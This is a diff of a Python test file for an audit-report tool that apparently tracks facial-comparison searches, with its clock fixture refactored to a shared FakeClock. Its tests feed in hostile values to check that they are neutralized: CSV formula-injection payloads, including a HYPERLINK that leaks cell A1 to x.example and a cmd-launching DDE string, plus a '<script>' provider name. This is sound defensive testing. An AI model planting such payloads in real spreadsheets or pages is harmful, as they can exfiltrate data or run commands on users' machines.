@@ -35,18 +35,11 @@ from services.audit.invariants import Invariants, InvariantSettings
 from services.audit.report import build_report
 from services.audit.store import AuditStore
 from services.cli.main import main as frs
+from tests.unit.fakes import FakeClock
 
 T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
 D = "0" * 64
 FIELDS = list(OutboundField)
-
-
-class Clock:
-    def __init__(self) -> None:
-        self.now = T0
-
-    def __call__(self) -> datetime:
-        return self.now
 
 
 def submitted(pid: str, purpose: Purpose) -> ProbeSubmitted:
@@ -99,7 +92,7 @@ def store(tmp_path: Path) -> AuditStore:
 
 def test_report_counts_searches_kinds_purposes_denials_and_purges(
         store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    clock = Clock()
+    clock = FakeClock(T0)
     inv = Invariants(store, InvariantSettings(30, 60), clock)
     feed(store, inv, [
         provider("fed-ngi", "federal"), provider("state-va", "state_local"),
@@ -143,7 +136,7 @@ def test_report_counts_searches_kinds_purposes_denials_and_purges(
 
 
 def test_invariants_fire_once_and_not_for_redelivered_records(store: AuditStore) -> None:
-    clock = Clock()
+    clock = FakeClock(T0)
     inv = Invariants(store, InvariantSettings(clearance_grace_s=30, expiry_grace_s=60), clock)
     assert feed(store, inv, [dispatched("p1", "fed-ngi")]) == []
     clock.now = T0 + timedelta(seconds=31)
@@ -169,7 +162,7 @@ def test_invariants_fire_once_and_not_for_redelivered_records(store: AuditStore)
 
 def test_html_and_csv_reports_are_self_contained(store: AuditStore, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
-    clock = Clock()
+    clock = FakeClock(T0)
     inv = Invariants(store, InvariantSettings(30, 60), clock)
     hostile = provider("acme", "commercial").model_copy(update={"name": "Acme <script>"})
     feed(store, inv, [hostile, submitted("p1", Purpose.HUMAN_TRAFFICKING),
@@ -204,7 +197,7 @@ FORMATS = ("text", "json", "csv", "html")
 
 def test_rejections_are_counted_by_reason_in_every_format(
         store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    inv = Invariants(store, InvariantSettings(30, 60), Clock())
+    inv = Invariants(store, InvariantSettings(30, 60), FakeClock(T0))
     reasons = [RejectReason.TOO_BLURRED] * 2 + [RejectReason.NO_FACE] * 3 + \
         [RejectReason.POLYGLOT]
     feed(store, inv, [rejected(f"x{i}", r) for i, r in enumerate(reasons)])
@@ -240,7 +233,7 @@ def test_rejections_are_counted_by_reason_in_every_format(
 def test_every_format_says_its_window_in_words(
         store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str,
         window: tuple[str, ...], words: str, machine: tuple[str | None, str | None]) -> None:
-    inv = Invariants(store, InvariantSettings(30, 60), Clock())
+    inv = Invariants(store, InvariantSettings(30, 60), FakeClock(T0))
     feed(store, inv, [submitted("p1", Purpose.FINANCIAL_FRAUD)])  # at T0, inside each window
     store.close()
     out = report(tmp_path / "audit", capsys, "--format", fmt, *window)
@@ -256,7 +249,7 @@ def test_every_format_says_its_window_in_words(
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(
         store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    inv = Invariants(store, InvariantSettings(30, 60), Clock())
+    inv = Invariants(store, InvariantSettings(30, 60), FakeClock(T0))
     hostile = {"p-eq": '=HYPERLINK("http://x.example/?"&A1,"open")',
                "p-plus": "+1+cmd|' /C calc'!A0", "p-minus": "-1", "p-at": "@SUM(A1:A9)",
                "p-tab": "\t=1+1", "p-cr": "\r=1+1", "p-ok": "Plain Name",
@@ -284,7 +277,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(
 
 def test_html_lays_out_long_labels_whole(store: AuditStore, tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
-    inv = Invariants(store, InvariantSettings(30, 60), Clock())
+    inv = Invariants(store, InvariantSettings(30, 60), FakeClock(T0))
     name = ("Northern Virginia Regional Multi-Jurisdictional Biometric Identification and "
             "Facial Comparison Consortium Services LLC & Partners")
     name = (name * 2)[:120]
@@ -316,7 +309,7 @@ def test_a_handler_failing_halfway_leaves_no_trace_and_the_retry_succeeds(
                 raise RuntimeError("transient")
             return out
 
-    clock = Clock()
+    clock = FakeClock(T0)
     inv = Flaky(store, InvariantSettings(0, 60), clock)
     feed(store, inv, [submitted("p0", Purpose.FINANCIAL_FRAUD)])
     rec = encode(dispatched("p1", "fed-ngi"), "/frs/test", time=T0)
